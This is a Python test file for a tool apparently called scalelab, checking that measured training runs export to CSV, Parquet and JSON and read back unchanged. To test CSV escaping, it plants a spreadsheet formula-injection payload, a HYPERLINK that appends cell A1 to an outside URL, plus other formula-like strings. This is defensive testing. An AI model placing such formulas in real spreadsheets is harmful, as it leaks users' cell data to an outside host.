"""What runs measured, as files for other tools; and read back as it was."""

import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from measured_runs import EMULATED, completed, measured_run
from sentences import refused

import scalelab
from scalelab.cli import main
from scalelab.errors import SpecError, StoreError
from scalelab.experiment.trial import Trial
from scalelab.inputs.outcome import Outcome
from scalelab.records.attempt import AttemptResult
from scalelab.session import Run
from scalelab.session.export import write_rows

WITH_OPTIONS = EMULATED.replace(
    "gpus: [1, 2]", "parallelism: [ddp, {fsdp: {sharding: [full]}}]\ngpus: [1, 2]"
)

FORMULA = """=HYPERLINK("http://host/?"&A1, 'no room')"""


def or_out_of_memory(trial: Trial) -> AttemptResult:
    """Return a measurement; the larger batch does not fit on one device."""
    if trial.local_batch_size == 8 and trial.world_size == 1:
        return AttemptResult(outcome=Outcome.OUT_OF_MEMORY, reason=FORMULA)
    return completed(trial, hosts=["n1, a", "n2"])


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Sequence[Run]:
    """Two runs of equal trials, one with failures."""
    here = tmp_path_factory.mktemp("runs")
    measured_run(here / "one", ending=or_out_of_memory)
    measured_run(here / "two")
    return [scalelab.load(here / name) for name in ("one", "two")]


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_the_attempts_of_a_run_are_read_back_as_they_are(
    runs: Sequence[Run], ending: str, tmp_path: Path
) -> None:
    path = scalelab.export(runs[0], tmp_path / f"rows.{ending}")
    again = scalelab.import_table(path, tmp_path / "again")
    pd.testing.assert_frame_equal(again.observations, runs[0].observations)
    job = {"samples": 100_000}
    asked, whole = again.recommend(job=job), runs[0].recommend()
    assert [row.time_s for row in asked.rows] == [row.time_s for row in whole.rows]


def test_equal_trials_of_several_runs_are_kept_apart(
    runs: Sequence[Run], tmp_path: Path
) -> None:
    path = scalelab.export(runs, tmp_path / "rows.csv")
    again = scalelab.import_table(path, tmp_path / "again").observations
    every = pd.concat([run.observations for run in runs], ignore_index=True)
    others = [*every.columns.drop("trial_id")]
    pd.testing.assert_frame_equal(again[others], every[others])
    assert again["trial_id"].nunique() == sum(
        run.observations["trial_id"].nunique() for run in runs
    )


def test_what_other_tools_read_is_what_was_measured(
    runs: Sequence[Run], tmp_path: Path
) -> None:
    rows = pd.concat([run.observations for run in runs], ignore_index=True)
    csv = pd.read_csv(scalelab.export(runs, tmp_path / "rows.csv"))
    parquet = pd.read_parquet(scalelab.export(runs, tmp_path / "rows.parquet"))
    text = scalelab.export(runs, tmp_path / "rows.json").read_text()
    records = json.loads(text)
    for name in ("step_time_s", "throughput_samples_per_s", "world_size"):
        known = rows[name].astype(float)
        for read in (csv, parquet, pd.DataFrame(records)):
            found = read[name].astype(float)
            pd.testing.assert_series_equal(found, known, check_exact=True)
    assert records[-1]["hosts"] == rows["hosts"].iloc[-1]
    assert json.loads(csv["hosts"].iloc[-1]) == rows["hosts"].iloc[-1]
    assert [*parquet["hosts"].iloc[-1]] == rows["hosts"].iloc[-1]
    assert records[0]["outcome"] == rows["outcome"].iloc[0]


def test_a_configuration_has_medians_and_counts(
    runs: Sequence[Run], tmp_path: Path
) -> None:
    path = scalelab.export(runs[0], tmp_path / "rows.csv", per="configuration")
    table = pd.read_csv(path).set_index(["world_size", "local_batch_size"])
    assert table["num_attempts"].tolist() == [2, 2, 2, 2]
    assert table.loc[(1, 8), "num_out_of_memory"] == 2
    assert table.loc[(1, 8), "num_used"] == 0
    own = runs[0].observations.query("world_size == 2 and local_batch_size == 4")
    row = table.loc[(2, 4)]
    assert row["num_used"] == 2
    assert row["step_time_s"] == pytest.approx(own["step_time_s"].median())
    assert row["step_time_least_s"] == own["step_time_s"].min()
    assert row["step_time_most_s"] == own["step_time_s"].max()
    path = scalelab.export(runs[1], tmp_path / "two.csv", per="configuration")
    again = scalelab.import_table(path, tmp_path / "again").observations
    # a table of configurations says that its times were declared, too
    assert again["emulated"].all()


@pytest.mark.parametrize(
    ("call", "message"),
    [
        (
            lambda runs: scalelab.export(runs, "rows.xlsx"),
            "'.xlsx' says no format",
        ),
        (
            lambda runs: scalelab.export(runs, "rows.csv", per="row"),
            "'row' is unknown",
        ),
        (lambda runs: scalelab.export([], "rows.csv"), "no run is given"),
        (lambda runs: runs[0].to_csv("rows"), "the ending '' says no format"),
    ],
)
def test_wrong_arguments_are_refused(
    runs: Sequence[Run], call: Callable[[Any], Any], message: str, tmp_path: Path
) -> None:
    with pytest.raises(SpecError, match=message):
        call(runs)
    assert not Path("rows.csv").exists()


def test_a_file_that_cannot_be_written_says_so(
    runs: Sequence[Run], tmp_path: Path
) -> None:
    with pytest.raises(StoreError, match=r"rows\.csv"):
        scalelab.export(runs, tmp_path / "none" / "rows.csv")


def test_the_command_writes_the_file(
    runs: Sequence[Run], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "rows.csv"
    directories = [str(run.path) for run in runs]
    assert main.run(["export", *directories, "-o", str(path)]) == 0
    assert capsys.readouterr().out.strip() == str(path)
    assert path.read_bytes() == scalelab.export(runs, tmp_path / "b.csv").read_bytes()
    assert main.run(["export", *directories, "-o", str(tmp_path / "x.txt")]) == 2
    assert "End the name with one of .csv" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("completed", "exploded"), "exploded"),
        (("2,2,", "2,two,"), "line"),
    ],
)
def test_an_exported_table_that_was_spoilt_is_refused(
    runs: Sequence[Run], change: tuple[str, str], message: str, tmp_path: Path
) -> None:
    path = scalelab.export(runs[1], tmp_path / "rows.csv")
    lines = path.read_text().splitlines()
    lines[3] = lines[3].replace(*change)
    path.write_text("\n".join(lines))
    with pytest.raises(SpecError, match=message):
        scalelab.import_table(path, tmp_path / "again")
    assert not (tmp_path / "again").exists()


@pytest.mark.parametrize("workload", ["=1+1", "'=1+1", "-a", "@b", "'c", "a=b", "''+"])
def test_a_name_like_a_formula_is_read_back(workload: str, tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    head = "workload,world_size,num_nodes,local_batch_size,step_time_s"
    path.write_text(f"{head}\nplain,4,1,8,0.1\n")
    run = scalelab.import_table(path, tmp_path / "run")
    rows = run.observations.assign(workload=workload)
    again = scalelab.import_table(write_rows(rows, path), tmp_path / "again")
    assert [*again.observations["workload"]] == [workload]


def test_no_text_of_a_csv_is_a_formula(runs: Sequence[Run], tmp_path: Path) -> None:
    paths = [
        scalelab.export(runs[0], tmp_path / "safe.csv"),
        runs[0].to_csv(tmp_path / "as_is.csv", keep_formulas=True),
        scalelab.export(runs[0], tmp_path / "rows.json"),
    ]
    safe, as_is, _ = (path.read_text() for path in paths)
    for text, apostrophe in ((safe, "'"), (as_is, "")):
        num_formulas = text.count("=HYPERLINK")
        assert num_formulas > 0
        assert text.count(f'"{apostrophe}=HYPERLINK') == num_formulas
    reasons = [row["reason"] for row in json.loads(paths[2].read_text())]
    assert FORMULA in reasons

    command = ["export", str(runs[0].path), "-o", str(tmp_path / "command.csv")]
    assert main.run([*command, "--keep-formulas"]) == 0
    assert (tmp_path / "command.csv").read_text() == as_is


def test_an_attempt_that_stands_there_twice_is_refused(
    runs: Sequence[Run], tmp_path: Path
) -> None:
    path = scalelab.export(runs[1], tmp_path / "rows.csv")
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines, lines[-1]]))
    with refused("attempt_twice", "line 9"):
        scalelab.import_table(path, tmp_path / "again")
